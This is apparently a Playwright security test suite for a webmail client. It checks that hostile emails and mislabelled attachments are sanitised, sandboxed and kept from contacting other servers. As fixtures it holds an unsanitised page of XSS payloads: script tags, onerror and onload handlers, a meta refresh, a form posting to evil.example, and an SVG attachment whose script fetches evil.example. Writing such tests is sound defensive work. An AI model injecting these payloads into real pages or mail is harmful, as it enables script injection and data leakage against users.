import type { Page } from 'playwright-core'
import { expect, journey } from './harness/journey.ts'
import { deliverByLmtp } from './harness/lmtp.ts'
import { countProcessorTime } from './harness/processor-time.ts'
import { currentPath, threadRow } from './harness/screens.ts'
import {
  excessiveMessages,
  type HostileMessage,
  mutations,
  scripts,
  styles,
  visibleText,
} from './messages/hostile-messages.ts'
import { t } from './texts.ts'

// Each message is delivered, opened and hovered. None may run a script, contact another server, leave its frame, or
// cover the page.

journey(
  'hostile scripts, mutations and styles can only be read',
  async ({ product, openPage, signIn, deliverMessage }) => {
    const mails = [...scripts, ...mutations, ...styles]
    const page = await openPage()
    const strangers = noteStrangers(page, product.address)
    for (const { name, html } of mails) await deliverMessage({ to: 'ha@mocviet.test', subject: name, html })
    await signIn(page, 'ha@mocviet.test')
    await threadRow(page, mails.at(-1)?.name ?? '').click()

    for (const mail of mails.toReversed()) {
      await readUnharmed(page, mail)
      await page.keyboard.press('j')
    }
    expect(strangers).toEqual([])
  },
)

journey(
  'excessive messages open in time, and the page stays usable',
  async ({ product, openPage, signIn, deliverMessage }) => {
    const page = await openPage()
    const strangers = noteStrangers(page, product.address)
    for (const { name, html } of excessiveMessages)
      await deliverMessage({ to: 'phuc@mocviet.test', subject: name, html })
    await signIn(page, 'phuc@mocviet.test')

    for (const mail of excessiveMessages.toReversed()) {
      const isFirst = mail === excessiveMessages.at(-1)
      const cost = await countProcessorTime(page, async () => {
        await (isFirst ? threadRow(page, mail.name).click() : page.keyboard.press('j'))
        await readUnharmed(page, mail)
      })
      expect(cost, mail.name).toBeLessThan(12_000)
    }
    expect(strangers).toEqual([])
  },
)

journey(
  'a message that passes the sanitiser is still confined by its frame',
  async ({ product, browser, openPage, signIn }) => {
    const page = await openPage()
    await signIn(page, 'ha@mocviet.test')
    const context = await browser.newContext({
      storageState: await page.context().storageState(),
      baseURL: product.address,
    })
    context.setDefaultTimeout(60_000)
    try {
      const reader = await context.newPage()
      // The frame's policy blocks requests before this point.
      const requests: string[] = []
      await reader.route(/evil\.example/, (route) => {
        requests.push(route.request().url())
        return route.abort()
      })
      await reader.route(/\/messages\/\d+\/body/, (route) =>
        route.fulfill({ contentType: 'text/html; charset=utf-8', body: unsafePage }),
      )
      await reader.route('/own.js', (route) =>
        route.fulfill({ contentType: 'text/javascript', body: 'top.owned = 1' }),
      )
      await reader.goto('/folder/INBOX')
      await reader.locator('[role=row][data-id]').first().click()
      const body = reader.locator('article iframe').last().contentFrame()
      await body.getByText(visibleText).waitFor()
      const refused = reader.waitForEvent('console', (line) =>
        line.text().startsWith('Blocked form submission'),
      )
      await body.getByRole('button').click()
      await refused

      expect(await reader.evaluate(() => 'owned' in window)).toBe(false)
      expect(currentPath(reader)).toMatch(/^\/folder\/INBOX\/\d+$/)
      expect(requests).toEqual([])
    } finally {
      await context.close()
    }
  },
)

/** A body page that was not sanitised. */
const unsafePage = `<!doctype html><html data-theme="light"><head><style>@import "https://evil.example/a.css"; p { background: url(https://evil.example/b.png) }</style></head><body>
<p style="background: url(https://evil.example/c.png)">${visibleText}</p>
<script>top.owned = 1</script><script src="/own.js"></script>
<img src="https://evil.example/d.png" onerror="top.owned = 1"><svg onload="top.owned = 1"></svg>
<iframe src="https://evil.example/e"></iframe><iframe srcdoc="<script>top.owned = 1</script>"></iframe>
<object data="https://evil.example/f"></object><link rel="stylesheet" href="https://evil.example/g.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/h"><base href="https://evil.example/">
<form action="https://evil.example/i" target="_top"><button>Gửi</button></form>
</body></html>`

journey(
  'mislabelled files are saved or displayed as text, and never run',
  async ({ product, openPage, signIn }) => {
    const files = [
      { name: 'anh.png', type: 'image/png' },
      { name: 'anh.svg', type: 'image/svg+xml' },
      { name: 'trang.html', type: 'text/html' },
      { name: 'bao-gia.pdf', type: 'application/pdf' },
    ]
    await deliverByLmtp(
      product.lmtpPort,
      'vy@xuongmoc.example',
      ['duy@dakwood.test'],
      messageWithFiles(files),
    )
    const page = await openPage()
    const strangers = noteStrangers(page, product.address)
    await signIn(page, 'duy@dakwood.test')
    const id = await findThread(page, 'Tệp giả')
    await page.goto(`/folder/INBOX/${id}`)

    for (const { name } of files) {
      await page.getByRole('button', { name: t('thread.openFile', { name }) }).click()
      const preview = page.getByRole('dialog', { name })
      await preview.getByText('top.owned').or(preview.getByRole('alert')).first().waitFor()
      await page.keyboard.press('Escape')
      await preview.waitFor({ state: 'hidden' })
    }
    expect(await page.evaluate(() => 'owned' in window)).toBe(false)
    expect(strangers).toEqual([])

    const reply = await page.request.get(`/api/v2/threads/${id}`)
    const { messages } = (await reply.json()) as { messages: { files: { uuid: string; name: string }[] }[] }
    for (const { uuid, name } of messages.flatMap((message) => message.files)) {
      const response = await page.request.get(`/api/v2/files/${uuid}/download?inline=1`)
      const { 'content-type': type, ...headers } = response.headers()
      expect(type, name).toMatch(/^(image\/png|application\/(pdf|octet-stream))/)
      expect(headers['x-content-type-options'], name).toBe('nosniff')
      expect(headers['content-security-policy'], name).toContain('sandbox')
    }
  },
)

/** A message with files that all contain the same page with a script. */
const messageWithFiles = (files: readonly { name: string; type: string }[]) =>
  [
    'From: Vy <vy@xuongmoc.example>',
    'Subject: =?utf-8?Q?T=E1=BB=87p_gi=E1=BA=A3?=',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=ranh-gioi',
    '',
    ...files.flatMap(({ name, type }) => [
      '--ranh-gioi',
      `Content-Type: ${type}; name="${name}"`,
      `Content-Disposition: attachment; filename="${name}"`,
      '',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>top.owned=1;fetch("https://evil.example/")</script></svg>',
    ]),
    '--ranh-gioi--',
    '',
  ].join('\r\n')

/** Waits for an open message and checks that the page around it is intact. */
async function readUnharmed(page: Page, { name }: HostileMessage): Promise<void> {
  const id = await findThread(page, name)
  const reply = await page.request.get(`/api/v2/threads/${id}`)
  const { messages } = (await reply.json()) as { messages: { id: string }[] }
  const frame = page.locator(`article[data-message="${messages[0]?.id}"] iframe:not([data-kept] *)`)
  await frame.and(page.locator('[data-content="message"]')).waitFor()
  const body = frame.contentFrame()
  await body.getByText(visibleText).first().waitFor()

  const links = body.locator('a[href], area[href]')
  const addresses = await links.evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href))
  for (const address of addresses) expect(address, name).toMatch(/^(https?|mailto|tel):|#/)
  expect(await page.title(), name).not.toBe('owned')
  expect(await page.evaluate(() => 'owned' in window), name).toBe(false)
  expect(currentPath(page), name).toBe(`/folder/INBOX/${id}`)
  expect(
    page.frames().filter((one) => one.parentFrame()?.parentFrame()),
    name,
  ).toEqual([])
  expect(
    await body
      .locator(
        'script, iframe, object, embed, form, input, svg, math, link, style, meta:not(head > meta), base, dialog, template',
      )
      .count(),
    name,
  ).toBe(0)
  await isInReach(page, name)
}

/** Controls of the page are not covered and respond. */
async function isInReach(page: Page, name: string): Promise<void> {
  for (const label of [t('thread.back'), t('act.delete'), t('thread.messageActions')]) {
    await page.getByRole('button', { name: label, exact: true }).first().click({ trial: true })
  }
  const frame = () =>
    page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))))
  expect(await countProcessorTime(page, frame), name).toBeLessThan(1500)
  const widest = await page.evaluate(() => document.documentElement.scrollWidth)
  expect(widest, name).toBeLessThanOrEqual(1440)
}

async function findThread(page: Page, subject: string): Promise<string> {
  const reply = await page.request.get('/api/v2/threads?in=INBOX&limit=100')
  const { items } = (await reply.json()) as { items: { id: string; subject: string }[] }
  const thread = items.find((one) => one.subject === subject)
  if (!thread) throw new Error(`No thread "${subject}"`)
  return thread.id
}

/** Requests to other hosts. */
function noteStrangers(page: Page, localOrigin: string): string[] {
  const strangers: string[] = []
  page.context().on('request', (request) => {
    const url = request.url()
    if (!url.startsWith(localOrigin) && !/^(data|blob|about):/.test(url)) strangers.push(url)
  })
  page.on('dialog', (dialog) => {
    strangers.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.context().on('page', (other) => other !== page && strangers.push(`window: ${other.url()}`))
  return strangers
}
